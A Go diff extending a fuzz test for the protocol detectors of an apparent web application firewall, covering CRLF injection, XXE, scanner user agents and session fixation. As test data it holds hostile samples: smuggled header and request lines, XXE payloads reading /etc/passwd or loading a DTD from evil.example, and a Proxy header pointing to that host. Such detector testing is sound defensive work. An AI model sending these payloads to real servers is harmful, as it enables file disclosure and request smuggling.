@@ -1,6 +1,9 @@
 package detect
 
 import (
+	"regexp"
+	"slices"
+	"strings"
 	"testing"
 
 	"github.com/rampartwaf/rampart/internal/request"
@@ -191,26 +194,212 @@ func TestHiddenScriptExt(t *testing.T) {
 	}
 }
 
-// FuzzProtocol checks that the request-wide checks and the CRLF and XXE value checks
-// never panic, whatever the method, headers, content type and body.
+// crlfInjections are the lines CRLF finds after a line break in any value: a smuggled
+// request line, a status line, and the headers whose injection is the point of the
+// attack (crlf.go).
+var crlfInjections = []string{
+	"Set-Cookie: sid=attacker", "Content-Length: 0", "Transfer-Encoding: chunked", "GET /admin HTTP/1.1",
+	"HTTP/1.1 200 OK", "X-Forwarded-For: 127.0.0.1", "Access-Control-Allow-Origin: *",
+}
+
+// xxeDocs are XXE payloads (xxe.go): a parameter entity, an internal subset declaring an
+// external entity, an external DTD, an XInclude.
+var xxeDocs = []string{
+	`<!ENTITY % dtd SYSTEM "http://evil.example/x.dtd">`,
+	`<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>`,
+	`<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">`,
+	`<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></x>`,
+	`<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]>`,
+}
+
+// crlfOrder lists the sources from the least to the most strictly judged by CRLF: a text
+// field (JSON, form, multipart, XML, message) takes a header line as text; a query value
+// belongs on one line, so the headers an open redirect wants count too; a cookie is a
+// header, where any header line counts; in a path segment any line break does.
+var crlfOrder = [][]request.Source{
+	{request.SourceJSON, request.SourceForm, request.SourceMultipart, request.SourceXML, request.SourceBody, request.SourceMessage},
+	{request.SourceQuery},
+	{request.SourceCookie},
+	{request.SourcePath},
+}
+
+// scannerWord is the rule of scanner.go written as a regular expression: one of
+// scannerAgents, without regard to case, with no ASCII letter right before or after it.
+var scannerWord = func() *regexp.Regexp {
+	names := make([]string, len(scannerAgents))
+	for i, a := range scannerAgents {
+		names[i] = regexp.QuoteMeta(a)
+	}
+	return regexp.MustCompile(`(?i)(?:^|[^a-z])(?:` + strings.Join(names, "|") + `)(?:$|[^a-z])`)
+}()
+
+// protocolSignals runs the request checks of the protocol families on r and returns
+// their signals.
+func protocolSignals(r *request.Request) []request.Signal {
+	checkProtocol(r)
+	checkSessionFixation(r)
+	checkPrivateFile(r)
+	checkScanner(r)
+	return r.Signals
+}
+
+func hasName(signals []request.Signal, name string) bool {
+	return slices.ContainsFunc(signals, func(s request.Signal) bool { return s.Name == name })
+}
+
+// FuzzProtocol checks the request-wide checks (BHH, INVALID-HTTP, SCANNER,
+// SESSION-FIXATION) and the CRLF and XXE value checks, whatever the method, headers,
+// content type and body:
+//
+//   - protocol: the checks are deterministic and judge each header on its own: a request
+//     gets the same signals twice, and the same with a browser's Accept-Language added;
+//     a Proxy header (httpoxy) or a method that is not a token name ("|GET") always
+//     adds BHH or INVALID-HTTP, whatever else the request holds (a Request without a
+//     method is no HTTP request and is not judged);
+//   - SCANNER: raised exactly when the User-Agent names a tool of scannerAgents as a
+//     word, the rule of scanner.go written as a regular expression; a tool's name after
+//     benign text always is one;
+//   - SESSION-FIXATION: a session cookie name sent as a query parameter with a value is
+//     found without a Referer and not with a Referer on the request's own host;
+//   - CRLF: a text field is judged least strictly and a path segment most (crlfOrder):
+//     a value matched in one source matches in every stricter one; a header line of
+//     crlfInjections after a line break is found in every source but a header (which
+//     cannot hold a raw line break), whatever benign text comes around it; benign text
+//     over several lines (no ':' or '/') matches only in a path segment;
+//   - XXE: judged alike in every source but an XML body (whose names are read too);
+//     a payload of xxeDocs is found whatever comes before and after it (every '<' is
+//     looked at); a value without '<' never matches;
+//   - fragments are non-empty and part of the value.
 func FuzzProtocol(f *testing.F) {
-	f.Add("GET", "bytes=0-10,5-", "multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"a;b\"; filename=\"x.php%00.png\"\r\n\r\nv\r\n--b--", `a="b; c"`)
-	f.Add("|X", "bytes=-", `text/plain; charset="utf-7"; boundary="text/xml"`, "<!DOCTYPE x [<!ENTITY % y SYSTEM \"z\">]>", "\"")
-	f.Add("POST", "", "application/x-www-form-urlencoded", "a=%0d%0aSet-Cookie:%20x&b=x\nGET / HTTP/1.1", "=\\\"")
-	f.Fuzz(func(t *testing.T, method, rng, ct, body, cookie string) {
-		r := protoReq(method, "HTTP/1.1", ct, body, "Range", rng, "Cookie", cookie, "Connection", rng,
-			"Accept", ct, "Transfer-Encoding", rng, "Content-Length", rng)
-		r.URI, r.Path = "/"+rng, "/"+rng
-		r.Params = []request.Param{{Source: request.SourceForm, Name: "_charset_", Value: rng},
-			{Source: request.SourceQuery, Name: "PHPSESSID", Value: body}}
-		checkProtocol(r)
-		checkSessionFixation(r)
-		checkPrivateFile(r)
-		checkScanner(r)
+	f.Add("GET", "bytes=0-10,5-", "multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"a;b\"; filename=\"x.php%00.png\"\r\n\r\nv\r\n--b--", `a="b; c"`, uint8(0))
+	f.Add("|X", "bytes=-", `text/plain; charset="utf-7"; boundary="text/xml"`, "<!DOCTYPE x [<!ENTITY % y SYSTEM \"z\">]>", "\"", uint8(1))
+	f.Add("POST", "", "application/x-www-form-urlencoded", "a=%0d%0aSet-Cookie:%20x&b=x\nGET / HTTP/1.1", "=\\\"", uint8(2))
+	for n := range 7 {
+		f.Add("GET", "", "", "Hello, how are you.\nFine", "sqlmap", uint8(n))
+	}
+	f.Fuzz(func(t *testing.T, method, rng, ct, body, cookie string, n uint8) {
+		build := func() *request.Request {
+			r := protoReq(method, "HTTP/1.1", ct, body, "Range", rng, "Cookie", cookie, "Connection", rng,
+				"Accept", ct, "Transfer-Encoding", rng, "Content-Length", rng)
+			r.URI, r.Path = "/"+rng, "/"+rng
+			r.Params = []request.Param{{Source: request.SourceForm, Name: "_charset_", Value: rng},
+				{Source: request.SourceQuery, Name: "PHPSESSID", Value: body}}
+			return r
+		}
+		first := protocolSignals(build())
+		if again := protocolSignals(build()); !slices.Equal(first, again) {
+			t.Fatalf("same request, different signals: %v then %v", first, again)
+		}
+		lang := build()
+		lang.Headers = append(lang.Headers, request.Header{Name: "Accept-Language", Value: "en-US,en;q=0.5"})
+		if got := protocolSignals(lang); !slices.Equal(first, got) {
+			t.Fatalf("Accept-Language changed the signals: %v, then %v", first, got)
+		}
+		proxy := build()
+		proxy.Headers = append(proxy.Headers, request.Header{Name: "Proxy", Value: "http://evil.example:8080"})
+		if got := protocolSignals(proxy); method != "" && !hasName(got, BHH) {
+			t.Fatalf("Proxy header without BHH: %v", got)
+		}
+		bad := build()
+		bad.Method = "|" + method
+		if got := protocolSignals(bad); !hasName(got, INVALIDHTTP) {
+			t.Fatalf("method %q without INVALID-HTTP: %v", bad.Method, got)
+		}
+
+		// SCANNER, against its rule as a regular expression.
+		for _, ua := range []string{cookie, benignText(body, wordAlphabet, 40) + " " + pick(scannerAgents, n) + "/1.0", "Mozilla/5.0 q" + pick(scannerAgents, n)} {
+			r := &request.Request{Method: "GET", URI: "/", Path: "/", Host: "h", UserAgent: ua}
+			checkScanner(r)
+			got, want := hasName(r.Signals, SCANNER), scannerWord.MatchString(ua)
+			if got != want {
+				t.Fatalf("User-Agent %q: SCANNER %v, want %v", ua, got, want)
+			}
+			if got && !slices.ContainsFunc(scannerAgents, func(a string) bool { return strings.EqualFold(a, r.Signals[0].Fragment) }) {
+				t.Fatalf("User-Agent %q: SCANNER fragment %q names no tool", ua, r.Signals[0].Fragment)
+			}
+		}
+
+		// SESSION-FIXATION.
+		if body != "" {
+			name := pick(sessionNames, n)
+			if strings.HasSuffix(name, "*") {
+				name = name[:len(name)-1] + "QQGGQGPG"
+			}
+			for _, ref := range []string{"", "https://shop.example.com/" + benignText(cookie, benignAlphabet, 20)} {
+				r := &request.Request{Method: "GET", URI: "/login", Path: "/login", Host: "shop.example.com",
+					Params: []request.Param{{Source: request.SourceQuery, Name: strings.ToUpper(name), Value: body}}}
+				if ref != "" {
+					r.Headers = []request.Header{{Name: "Referer", Value: ref}}
+				}
+				checkSessionFixation(r)
+				if got := hasName(r.Signals, SESSIONFIXATION); got != (ref == "") {
+					t.Fatalf("session name %q with Referer %q: SESSION-FIXATION %v", name, ref, got)
+				}
+			}
+		}
+
+		// CRLF and XXE, on the body as a value.
 		for _, src := range []request.Source{request.SourceQuery, request.SourceHeader, request.SourceJSON, request.SourceXML, request.SourcePath} {
 			p := &request.Param{Source: src, Name: "x", Value: body}
-			matchCRLF(p, body)
-			matchXXE(p, body)
+			if frag, ok := matchCRLF(p, body); ok {
+				checkFragment(t, CRLF, body, frag)
+			}
+			if frag, ok := matchXXE(p, body); ok {
+				checkFragment(t, XXE, body, frag)
+			}
+		}
+		crlfIn := func(src request.Source, v string) bool {
+			_, ok := matchCRLF(&request.Param{Source: src, Name: "x", Value: v}, v)
+			return ok
+		}
+		for _, v := range []string{body, cookie} {
+			matched := false
+			for _, group := range crlfOrder {
+				in := crlfIn(group[0], v)
+				for _, src := range group[1:] {
+					if crlfIn(src, v) != in {
+						t.Fatalf("CRLF on %q: %v as %s, %v as %s", v, in, group[0], !in, src)
+					}
+				}
+				if matched && !in {
+					t.Fatalf("CRLF on %q: matched in a laxer source, not as %s", v, group[0])
+				}
+				matched = matched || in
+			}
+		}
+		breaks := []string{"\r\n", "\n", "\r", "\r\n\r\n"}
+		injected := benignText(body, benignAlphabet, 60) + pick(breaks, n/8) + pick(crlfInjections, n)
+		if cookie != "" {
+			injected += pick(breaks, n/32) + benignText(cookie, benignAlphabet, 60)
+		}
+		lines := benignText(body+cookie, benignAlphabet+"\r\n", 200)
+		for _, group := range crlfOrder {
+			if !crlfIn(group[0], injected) {
+				t.Fatalf("CRLF missed %q as %s", injected, group[0])
+			}
+			if group[0] != request.SourcePath && crlfIn(group[0], lines) {
+				t.Fatalf("CRLF matched benign lines %q as %s", lines, group[0])
+			}
+		}
+
+		xxeIn := func(src request.Source, v string) bool {
+			_, ok := matchXXE(&request.Param{Source: src, Name: "x", Value: v}, v)
+			return ok
+		}
+		doc := body + pick(xxeDocs, n) + cookie
+		for _, v := range []string{body, doc} {
+			want := xxeIn(request.SourceQuery, v)
+			for _, src := range []request.Source{request.SourceJSON, request.SourceForm, request.SourceHeader, request.SourceCookie, request.SourceMessage} {
+				if xxeIn(src, v) != want {
+					t.Fatalf("XXE on %q: %v as query, %v as %s", v, want, !want, src)
+				}
+			}
+			if want && !strings.Contains(v, "<") {
+				t.Fatalf("XXE matched %q, which has no '<'", v)
+			}
+		}
+		if !xxeIn(request.SourceJSON, doc) {
+			t.Fatalf("XXE missed %q", doc)
 		}
 	})
 }
